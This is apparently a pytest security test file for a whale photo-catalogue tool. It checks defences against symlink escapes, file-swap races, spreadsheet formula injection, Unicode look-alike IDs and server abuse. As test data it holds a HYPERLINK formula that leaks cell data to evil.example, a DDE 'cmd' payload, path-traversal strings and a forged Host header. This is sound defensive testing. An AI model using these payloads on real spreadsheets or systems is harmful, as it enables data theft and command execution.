"""A catalogue no file, request or id can turn against its owner (issue 36), each case as it was found:

- a survey whose images folder is a link to a shared disk is catalogued and served; a file link leaving it is not;
- a photo file swapped with a link to a secret file while the server serves it never returns a byte of the secret;
- whale ids that a spreadsheet would run as formulas are exported inert; a MARK comment cannot be closed by an id;
- look-alike whale ids (zero width, byte order mark, direction override, case, full width, Cyrillic, Arabic-Indic
  digits) are refused at the review server, at import and at catalogue build, naming the existing whale;
- rows an earlier whaleid or a hand edit wrote are skipped by the replay, named by ``catalogue check`` and never
  made searchable by ``apply``;
- the server's loose ends: short or blank tokens, non-ASCII digits, other loopback addresses, the 503's wording,
  a client that never finishes its headers, cross-site reads.
"""

from __future__ import annotations

import csv
import os
import re
import socket
import sqlite3
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

pytest.importorskip("starlette")
from starlette.testclient import TestClient  # noqa: E402

from catalogue.records.check import check  # noqa: E402
from catalogue.records.photos import add_photo_root, read_photos  # noqa: E402
from catalogue.review.server import app  # noqa: E402
from catalogue.records.store import Catalogue  # noqa: E402
from tests.catalogue.wildbook_rules import check as check_sheet  # noqa: E402
from tests.catalogue.test_review_hostile import HOST, TOKEN, client, good_headers, make_catalogue  # noqa: E402

LOOKALIKES = {  # of the existing whale w0016: (what it is, the status the server answers)
    "w0016\u200b": ("zero width space", 400), "w0016\ufeff": ("byte order mark", 400),
    "\u202ew0016": ("right-to-left override", 400), "W0016": ("upper case", 409), "\uff57\uff10016": ("full width", 409),
    "w\u0430016": ("Cyrillic a... in a Latin id", 400), "w\u0660\u0660\u0661\u0666": ("Arabic-Indic digits", 409),
    "\tw0016": ("a tab first", 409), " w0016 ": ("spaces", 409),
}
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "=1+1"]


def photo(path: Path, shade: int = 90) -> Path:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (24, 40), (shade, 90, 120)).save(path)
    return path


@pytest.fixture()
def hostile(tmp_path) -> Path:
    return make_catalogue(tmp_path)


# ---- surveys as people lay them out ---------------------------------------------------------------------------

def test_a_survey_whose_images_folder_is_a_link_is_catalogued_and_served(tmp_path):
    nas = tmp_path / "nas" / "2019"
    photo(nas / "a.jpg")
    photo(nas / "b.jpg", 30)
    (tmp_path / "secret.jpg").write_bytes(b"secret bytes, not a photo of this survey")
    (nas / "leak.jpg").symlink_to(tmp_path / "secret.jpg")  # a file link on the shared disk leading out of it
    survey = tmp_path / "survey"
    survey.mkdir()
    (survey / "images").symlink_to(nas)
    (survey / "root").symlink_to("/")  # a folder link to / grants nothing
    lines = ["image_id,path,viewpoint,date,whale_id", "a,images/a.jpg,top,2019,w1", "b,images/b.jpg,top,2019,w2"]
    (survey / "metadata.csv").write_text("\n".join(lines) + "\n")
    photos = read_photos(survey, require_identity=True)
    assert list(photos.file) == [str((nas / "a.jpg").resolve()), str((nas / "b.jpg").resolve())]
    assert photos.attrs["linked_folders"] == [str(nas.resolve())]

    for bad in ("images/leak.jpg", f"root{tmp_path.resolve()}/secret.jpg", "images/../../secret.jpg"):
        (survey / "metadata.csv").write_text("\n".join(lines + [f"c,{bad},top,2019,w3"]) + "\n")
        with pytest.raises(ValueError, match=re.escape(f"row 4 ('{bad}')")):
            read_photos(survey, require_identity=True)

    cat = Catalogue.create(tmp_path / "c.sqlite", "a" * 64, "m", 4)
    add_photo_root(cat, survey, photos.attrs["linked_folders"])
    cat.add_photos([dict(r, path=r["file"]) for r in photos.to_dict(orient="records")], np.eye(2, 4, dtype=np.float32),
                   "2019")
    cat.close()
    with client(tmp_path / "c.sqlite") as c:
        r = c.get("/photo/a", headers={"host": HOST})
        assert r.status_code == 200 and r.content == (nas / "a.jpg").read_bytes()
        assert r.headers["content-type"] == "image/jpeg"
    problems, _ = check(tmp_path / "c.sqlite")
    assert problems == []


def test_a_photo_swapped_with_a_link_while_served_never_leaks_a_byte(hostile, tmp_path):
    """The race of the report: the photo file replaced by a link to a secret and back every half millisecond while
    the server serves it; 600 requests, each the photo whole or a 404, never the secret nor a cut body."""
    survey = hostile.parent / "survey" / "images"
    target = survey / "p0.jpg"
    good = target.read_bytes()
    secret = hostile.parent / "secret.txt"
    secret.write_bytes(b"SECRET" * 300)
    stop = threading.Event()

    def swap():
        n = 0
        while not stop.is_set():
            n += 1
            tmp = survey / f".swap{n % 2}"
            if n % 2:
                tmp.symlink_to(secret)
            else:
                tmp.write_bytes(good)
            os.replace(tmp, target)
            time.sleep(0.0005)
        if target.is_symlink():
            target.unlink()
            target.write_bytes(good)

    swapper = threading.Thread(target=swap)
    swapper.start()
    seen = {200: 0, 404: 0}
    try:
        with client(hostile) as c:
            for _ in range(600):
                r = c.get("/photo/p0", headers={"host": HOST})
                assert b"SECRET" not in r.content
                assert r.status_code in seen, r.status_code
                if r.status_code == 200:
                    assert r.content == good
                seen[r.status_code] += 1
    finally:
        stop.set()
        swapper.join()
    assert seen[200] > 0, seen


def test_heatmaps_are_drawn_from_the_photo_read_race_free_never_from_a_swapped_link(hostile, monkeypatch):
    """The heatmap and the match picture read their photos once, as /photo does, into private copies: a drawer that
    echoes its input files' bytes never echoes the secret a swapped link points to."""
    import catalogue.review.server as review

    class Echo:
        def __init__(self, bundle, model_hash):
            pass

        def png(self, a, b):
            return Path(a).read_bytes() + Path(b).read_bytes()
    monkeypatch.setattr(review, "Heatmaps", Echo)
    survey = hostile.parent / "survey" / "images"
    secret = hostile.parent / "secret.txt"
    secret.write_bytes(b"SECRET" * 100)
    (survey / "p0.jpg").unlink()
    (survey / "p0.jpg").symlink_to(secret)  # swapped after it was catalogued
    c = TestClient(app(hostile, "ana", bundle=hostile.parent / "b.zip", port=8765, token=TOKEN),
                   base_url=f"http://{HOST}", raise_server_exceptions=False)
    for path in ("/heatmap/q0/p0", "/heatmap/p0/q0"):
        r = c.get(path)
        assert r.status_code == 404 and b"SECRET" not in r.content, (path, r.status_code)
    r = c.get("/heatmap/q0/p1")
    assert r.status_code == 200 and r.content.startswith(b"\xff\xd8")  # the photos themselves


# ---- exports safe for the programs that open them ---------------------------------------------------------------

def test_exports_never_hand_a_spreadsheet_a_formula_nor_mark_a_made_up_history(hostile, tmp_path):
    from catalogue.exchange.exporting import write

    cat = Catalogue.open(hostile)
    queries = [f"q{i}" for i in range(6)]
    for q, whale in zip(queries, FORMULAS + ["x */ 1111 1; /* y"]):
        cat.decide("ana", "new_whale", q, whale_id=whale, expect_last=None)
    assert cat.apply_reviewed() == 6
    for fmt, name in (("csv", "c.csv"), ("wildbook", "wb.csv"), ("capture-history", "ch.csv")):
        write(cat, tmp_path / name, fmt, genus="Delphinapterus", species="leucas")
        with open(tmp_path / name, newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (fmt, cells)
        joined = "\n".join(cells)
        for whale in FORMULAS:  # each is still there, behind a quote
            assert "'" + whale in joined, (fmt, whale)
    pd.read_csv(tmp_path / "c.csv")  # still a table pandas reads
    assert check_sheet(tmp_path / "wb.csv") == []
    write(cat, tmp_path / "ch.inp", "capture-history")
    text = (tmp_path / "ch.inp").read_text()
    records = [r for r in re.sub(r"/\*.*?\*/", "", text, flags=re.S).split(";") if r.strip()]
    assert len(records) == len(text.splitlines()) == len(cat.state()["whales"]), text
    assert all(re.fullmatch(r"\s*[01]+ 1", r) for r in records), records
    cat.close()


def test_numbers_stay_numbers():
    from catalogue.records.cells import safe_text

    assert safe_text(-151.245) == -151.245 and safe_text("-151.245") == "-151.245" and safe_text("+3") == "+3"
    assert safe_text("-1+1") == "'-1+1" and safe_text("  =1") == "'  =1" and safe_text("whale0001") == "whale0001"


# ---- one identity rule, everywhere ------------------------------------------------------------------------------

def test_look_alike_whale_ids_are_refused_at_the_review_server(hostile):
    cat = Catalogue.open(hostile)
    cat.decide("ana", "new_whale", "q0", whale_id="w0016", expect_last=None)
    cat.close()
    with client(hostile) as c:
        for whale, (what, status) in LOOKALIKES.items():
            r = c.post("/api/decide", json={"query": "q1", "action": "new_whale", "whale_id": whale},
                       headers=good_headers())
            assert r.status_code == status, (what, r.status_code, r.text)
            if status == 409:
                assert "'w0016'" in r.json()["error"], (what, r.text)
        r = c.post("/api/decide", json={"query": "q1", "action": "new_whale", "whale_id": "w0017"}, headers=good_headers())
        assert r.status_code == 200
    whales = Catalogue.open(hostile).state()["whales"]
    assert whales == {"w0", "w1", "w2", "w0016", "w0017"}, whales


def test_look_alike_names_are_skipped_at_import_and_refused_at_build(tmp_path):
    from catalogue.exchange.importing import Record, write_survey

    images = tmp_path / "photos"
    for i in range(len(LOOKALIKES) + 1):
        photo(images / f"{i}.jpg", 10 * i)
    records = [Record(row="row 1", image="0.jpg", whale_id="w0016", viewpoint="top", date="2019-06-01")]
    records += [Record(row=f"row {i + 2}", image=f"{i + 1}.jpg", whale_id=w, viewpoint="top", date="2019-06-01")
                for i, w in enumerate(LOOKALIKES)]
    summary = write_survey(records, images, tmp_path / "survey")
    # full width, a tab first and spaces around are w0016 itself once normalised: the same whale, imported
    assert summary["imported"] == 4
    skipped = pd.read_csv(tmp_path / "survey" / "skipped.csv", dtype=str)
    assert len(skipped) == len(LOOKALIKES) - 3
    assert skipped.reason.str.contains("look-alike of 'w0016'").sum() == 2, list(skipped.reason)
    meta = pd.read_csv(tmp_path / "survey" / "metadata.csv", dtype=str)
    assert set(meta.whale_id) == {"w0016"} and len(meta) == 4

    survey = tmp_path / "build"
    (survey / "images").mkdir(parents=True)
    photo(survey / "images" / "a.jpg")
    for whale in ("W0016", "w\u0660\u0660\u0661\u0666", "\uff37\uff10\uff10\uff11\uff16"):
        (survey / "metadata.csv").write_text(f"image_id,path,viewpoint,date,whale_id\na,images/a.jpg,top,2019,w0016\n"
                                             f"b,images/a.jpg,top,2019,{whale}\n")
        with pytest.raises(ValueError, match=r"row 3: whale id .* is a look-alike of 'w0016' in row 2"):
            read_photos(survey, require_identity=True)
    for whale in ("w0016\u200b", "\u202ew0016", "w\u0430016"):
        (survey / "metadata.csv").write_text(f"image_id,path,viewpoint,date,whale_id\nb,images/a.jpg,top,2019,{whale}\n")
        with pytest.raises(ValueError, match="row 2: the whale id"):
            read_photos(survey, require_identity=True)
    (survey / "metadata.csv").write_text("image_id,path,viewpoint,date,whale_id\nx/../y,images/a.jpg,top,2019,w1\n")
    with pytest.raises(ValueError, match="row 2: the photo id 'x/../y'"):
        read_photos(survey, require_identity=True)


def test_build_refuses_a_look_alike_of_a_catalogue_whale(tmp_path):
    from catalogue.records.photos import refuse_lookalikes

    meta = pd.DataFrame({"row": [2, 3], "whale_id": ["w0016", "W0016"]})
    refuse_lookalikes(meta.head(1), {"w0016"}, "m.csv")  # the same whale again is fine
    with pytest.raises(ValueError, match=r"m.csv: row 3: whale id 'W0016' is a look-alike of the catalogue's whale "
                                         r"'w0016'"):
        refuse_lookalikes(meta, {"w0016"}, "m.csv")


# ---- the replay validates what a write validates ------------------------------------------------------------------

def test_rows_a_write_would_refuse_are_skipped_named_and_never_searchable(hostile):
    cat = Catalogue.open(hostile)
    cat.decide("ana", "new_whale", "q5", whale_id="real", expect_last=None)
    cat.close()
    rows = [("accept", "q0", "ghost-whale", None), ("merge", "q1", "ghost-a", "ghost-b"),
            ("accept", "not-a-proposal", "w0", None), ("accept", "p1", "w2", None), ("accept", "q2", " w1 ", None),
            ("new_whale", "q3", "w0", None), ("new_whale", "q3", "W0", None), ("accept", "q4", 12345, None)]
    conn = sqlite3.connect(hostile)
    for action, query, whale, other in rows:  # as a hand edit or an earlier whaleid could have written them
        conn.execute("INSERT INTO decisions (at, who, action, query, whale_id, other_whale, undoes, model_hash, scores) "
                     "VALUES ('2026', 'eve', ?, ?, ?, ?, NULL, ?, '{}')", (action, query, whale, other, "a" * 64))
    conn.commit()
    conn.close()
    cat = Catalogue.open(hostile)
    skipped = {s["id"]: s["why"] for s in cat.state()["skipped"]}
    assert sorted(skipped) == list(range(2, 2 + len(rows))), skipped
    _, notes = check(hostile)
    for row_id, why in skipped.items():
        assert any(f"decision {row_id} is skipped" in n and why in n for n in notes), (row_id, notes)
    assert "not in the catalogue" in skipped[2] and "not among identify's proposals" in skipped[4]
    assert "catalogue's own photos" in skipped[5] and "normal form" in skipped[6] and "exists already" in skipped[7]
    assert "look-alike" in skipped[8]
    cat.apply_reviewed()
    searchable = {w for w in cat.photos()[0]["whale_id"]}
    assert searchable == {"w0", "w1", "w2", "real"}, searchable
    cat.close()


# ---- the server's loose ends ------------------------------------------------------------------------------------

def test_tokens_numbers_and_loopback_addresses(hostile):
    from catalogue.review.server import serve

    for weak in ("  ", "x", "short-token-15c", "sixteen chars ok", "sixteen-chars-\u00e9\u00e9"):
        with pytest.raises(ValueError, match="at least 16 visible"):
            serve(hostile, host="0.0.0.0", token=weak)
        with pytest.raises(ValueError, match="at least 16 visible"):
            app(hostile, token=weak)
    with client(hostile) as c:
        for value in ("%C2%B2", "%D9%A1", "1%20", "-1", "0x1"):
            r = c.get(f"/api/state?offset={value}", headers={"host": HOST})
            assert r.status_code == 400, (value, r.status_code)
        assert c.get("/api/state?offset=1&limit=2", headers={"host": HOST}).status_code == 200
    other = TestClient(app(hostile, "ana", host="127.0.0.2", port=8765, token=TOKEN), base_url="http://127.0.0.2:8765",
                       raise_server_exceptions=False)
    assert other.get("/").status_code == 200 and other.get("/api/state").status_code == 200
    assert other.get("/", headers={"host": "evil.example:8765"}).status_code == 400


def test_cross_site_pages_cannot_read_photos_nor_make_the_server_draw(hostile):
    with client(hostile) as c:
        for path in ("/photo/p1", "/heatmap/q0/p1", "/matches/q0/p1", "/api/state"):
            for site in ("cross-site", "same-site"):
                r = c.get(path, headers={"host": HOST, "sec-fetch-site": site})
                assert r.status_code == 403, (path, site, r.status_code)
        assert c.get("/photo/p1", headers={"host": HOST, "sec-fetch-site": "same-origin"}).status_code == 200
        assert c.get("/", headers={"host": HOST, "sec-fetch-site": "cross-site"}).status_code == 200  # a link may open it


def test_a_busy_catalogue_says_another_program_holds_it_and_the_servers_own_writers_take_turns(hostile):
    holder = sqlite3.connect(hostile, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with client(hostile, busy_timeout=0.2) as c:
            r = c.post("/api/decide", json={"query": "q1", "action": "accept", "whale_id": "w1"}, headers=good_headers())
            assert r.status_code == 503 and "another program holds its write lock" in r.json()["error"]
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    statuses = []
    with client(hostile, busy_timeout=0.05) as c:  # 20 reviewers at once: each write waits its turn, none gets 503
        def decide(q):
            statuses.append(c.post("/api/decide", json={"query": q, "action": "accept", "whale_id": "w1",
                                                        "expect_last": None}, headers=good_headers()).status_code)
        threads = [threading.Thread(target=decide, args=(f"q{i % 6}",)) for i in range(20)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert 503 not in statuses and statuses.count(200) == 6, statuses


def test_a_client_that_never_finishes_its_headers_is_cut_off(hostile):
    import uvicorn

    from catalogue.review.slow_clients import header_timeout_protocol

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    config = uvicorn.Config(app(hostile, host="127.0.0.1", port=port, token=TOKEN), host="127.0.0.1", port=port,
                            log_level="warning", http=header_timeout_protocol(1.0))
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        for _ in range(200):
            if server.started:
                break
            time.sleep(0.05)
        slow = socket.create_connection(("127.0.0.1", port))
        slow.sendall(b"GET /api/state HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % port)  # and never the blank line
        slow.settimeout(5)
        started = time.monotonic()
        assert slow.recv(100) == b""  # closed by the server
        assert time.monotonic() - started < 4
        slow.close()
        ok = socket.create_connection(("127.0.0.1", port))  # a whole request in time is answered
        ok.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
        ok.settimeout(5)
        assert ok.recv(20).startswith(b"HTTP/1.1 200")
        ok.close()
    finally:
        server.should_exit = True
        thread.join(10)


def test_photo_ids_a_url_cannot_carry_are_refused_at_identify(tmp_path):
    survey = tmp_path / "s"
    photo(survey / "images" / "a.jpg")
    for bad in ("a/b", "..", "a\\b"):
        (survey / "metadata.csv").write_text(f"image_id,path,viewpoint,date\n\"{bad}\",images/a.jpg,top,2019\n")
        with pytest.raises(ValueError, match="row 2: the photo id"):
            read_photos(survey, require_identity=False)


def test_a_lone_surrogate_anywhere_in_a_write_is_a_400_not_a_500(hostile):
    """Found by the hypothesis test: an undo whose decision_id is the string "\\ud800" answered 500, its error
    message (which quoted the value) not encodable as UTF-8."""
    with client(hostile) as c:
        for body in (b'{"decision_id": "\\ud800"}', b'{"query": "q0", "action": "new_whale", "whale_id": "\\ud800x"}',
                     b'{"query": "q0", "action": "accept", "whale_id": "w0", "expect_last": "\\udfff"}'):
            url = "/api/undo" if b"decision_id" in body else "/api/decide"
            r = c.post(url, content=body, headers=good_headers())
            assert r.status_code == 400, (body, r.status_code, r.text)
